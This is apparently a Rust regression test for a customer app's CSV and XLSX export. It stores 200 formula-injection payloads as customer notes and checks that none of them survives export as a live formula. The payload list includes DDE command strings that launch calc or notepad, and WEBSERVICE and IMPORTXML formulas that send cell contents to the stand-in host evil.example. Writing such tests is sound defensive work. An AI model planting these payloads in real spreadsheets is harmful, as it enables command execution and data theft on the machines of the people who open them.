//! Two hundred ways to smuggle a formula into someone's spreadsheet, through CSV and XLSX.

use calamine::{Reader, Xlsx};
use clientele_core::customers::{self, At, Count, Field, Query};
use clientele_tables::write::{is_risky, unguard};
use clientele_tests::{World, fields};

use super::{Desk, csv, run, text, xlsx};

const COMMANDS: [&str; 20] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example\",\"click\")",
    "=WEBSERVICE(\"http://evil.example/\"&A1)",
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "+1",
    "+86 138 0013 8000",
    "+cmd|' /C notepad'!A0",
    "-1",
    "-2+3+cmd|' /C calc'!A0",
    "-",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@name",
    "＝1+1",
    "＋1",
    "－1+cmd",
    "＠SUM(1)",
    "=\"a\"&\"b\"",
    "=2+5;=3",
];

/// What a person, or a careless program, may put before it.
const DISGUISES: [&str; 10] = ["", " ", "'", "''", "\u{3000}", "\u{a0}", "' ", "\n", "'\n", "  '"];

fn payloads() -> Vec<String> {
    let disguised = |command: &&str| DISGUISES.map(|disguise| format!("{disguise}{command}"));
    COMMANDS.iter().flat_map(disguised).collect()
}

#[test]
fn no_payload_becomes_a_formula_and_every_one_reads_back_as_it_was() {
    let (world, desk) = (World::new(), Desk::new());
    let all = payloads();
    assert_eq!(all.len(), 200);
    world
        .write("customers.create", |tx| {
            for (n, payload) in all.iter().enumerate() {
                let name = format!("客户{n:03}");
                let written = [(Field::Name, name.as_str()), (Field::Notes, payload.as_str())];
                customers::create(tx, &fields(&written))?;
            }
            Ok(())
        })
        .unwrap();
    let list = world
        .read(|view| customers::list(view, &Query::default(), &At::Start, 1_000, Count::Exact));
    let kept: Vec<String> = list.unwrap().rows.into_iter().map(|it| it.notes.unwrap()).collect();
    assert_eq!(kept.len(), 200);
    assert!(kept.iter().all(|it| is_risky(it)));

    let columns = [Field::FileNo, Field::Name, Field::Notes];
    let delimited = desk.request("list.csv", &columns);
    run(&world, &world.boss, &delimited).unwrap();
    let rows = csv(&delimited.to);
    for (row, kept) in rows[1..].iter().zip(&kept) {
        assert!(row[2].starts_with('\''), "{}", row[2]);
        assert_eq!(unguard(&row[2]), kept);
    }

    let sheet = desk.request("list.xlsx", &columns);
    run(&world, &world.boss, &sheet).unwrap();
    for (row, kept) in xlsx(&sheet.to)[1..].iter().zip(&kept) {
        assert_eq!(row[2], text(kept));
    }
    let mut book: Xlsx<_> = calamine::open_workbook(&sheet.to).unwrap();
    let formulas = book.worksheet_formula("客户").unwrap();
    let live = formulas.rows().flatten().filter(|it| !it.is_empty()).count();
    assert_eq!(live, 1, "the count of the last row, and nothing else");
}
